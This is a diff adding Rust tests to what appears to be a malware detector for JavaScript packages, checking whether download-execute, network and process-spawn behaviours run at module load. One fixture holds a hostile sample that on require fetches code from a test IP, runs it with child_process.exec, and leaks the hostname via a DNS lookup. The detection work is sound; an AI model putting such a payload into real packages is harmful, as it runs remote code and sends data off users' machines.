@@ -991,3 +991,54 @@ fn geofencing_by_time_zone_or_geolocated_country() {
         facts(benign)
     );
 }
+
+/// The (kind, top level) pairs of a source, for reachability checks.
+fn placed(src: &str) -> Vec<(K, bool)> {
+    facts(src).into_iter().map(|f| (f.0, f.1)).collect()
+}
+
+#[test]
+fn callbacks_of_calls_made_at_top_level_run_at_top_level() {
+    // A timer started on require, a request in it, the body sent on in the response's
+    // callbacks: all of it runs when the module loads.
+    let src = r#"
+const https = require('https'), os = require('os'), cp = require('child_process');
+setTimeout(() => {
+  https.get('https://203.0.113.9/cfg', (res) => {
+    let body = '';
+    res.on('data', (d) => { body += d; });
+    res.on('end', () => { cp.exec(body); });
+  });
+}, 2000);
+new Promise((resolve) => resolve(os.hostname())).then((h) => {
+  require('dns').lookup(h + '.x.invalid', () => {});
+});
+"#;
+    let p = placed(src);
+    assert!(p.contains(&(K::DownloadExecute, true)), "{p:?}");
+    assert!(p.contains(&(K::Network, true)), "{p:?}");
+    assert!(
+        !p.iter().any(|x| !x.1),
+        "nothing here waits to be called: {p:?}"
+    );
+}
+
+#[test]
+fn callbacks_registered_for_later_stay_where_they_are_reached() {
+    // Route handlers, test bodies and CLI actions run when a request comes, a test runs
+    // or a command is typed: not on require.
+    let src = r#"
+const cp = require('child_process');
+const app = require('express')();
+app.get('/run', (req, res) => { cp.exec('ls', (e, out) => res.send(out)); });
+describe('spawn', () => { it('runs', () => { cp.execSync('git status'); }); });
+program.command('build').action(() => { cp.spawnSync('make'); });
+module.exports = function run() { setTimeout(() => cp.exec('date'), 10); };
+"#;
+    let p = placed(src);
+    assert!(
+        p.iter().filter(|x| x.0 == K::ProcessSpawn).all(|x| !x.1),
+        "{p:?}"
+    );
+    assert!(p.iter().any(|x| x.0 == K::ProcessSpawn), "{p:?}");
+}
